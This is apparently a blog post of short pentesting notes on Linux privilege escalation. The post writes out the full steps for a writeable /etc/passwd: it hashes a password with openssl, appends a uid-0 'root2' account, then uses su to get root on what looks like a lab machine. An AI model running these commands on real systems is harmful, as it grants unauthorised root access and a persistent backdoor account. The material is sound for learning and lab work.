Easy Priviledge Escalation Writeable /etc/passwd

Hi Guys,

I want to create simple notes regarding privilege escalation related to writeable /etc/passwd. Usually, when we have write access to the /etc/passwd then the pentester would like to make things become complicated.

When you run the post-exploitation enumeration with linpeas that show like below where you have write access to the /etc/passwd

Just follow the following steps for your escalation purpose

ash@tabby:~$ openssl passwd RioRio

Next is to add root2 username with the root privilege to the /etc/passwd with the password we generate aboveecho "root2:qRfak/wsHrEpQ:0:0:root:/root:/bin/bash" >> /etc/passwd

We can see above that at the end of the /etc/passwd we have successfully added our new user root2

the next is to SU to root2 and use the password we created RioRio

yeah we get the root privilege.

The above steps are just the basic idea; Thereare many attack vector that allows you to make the /etc/passwd become writeable such as root cron job or any other root process that we can divert to create /etc/passwd become writeable.Leave a Reply

Fill in your details below or click an icon to log in:

WordPress.com Logo

You are commenting using your WordPress.com account. Log Out /  Change )

Twitter picture

You are commenting using your Twitter account. Log Out /  Change )

Facebook photo

You are commenting using your Facebook account. Log Out/  Change )

Connecting to %s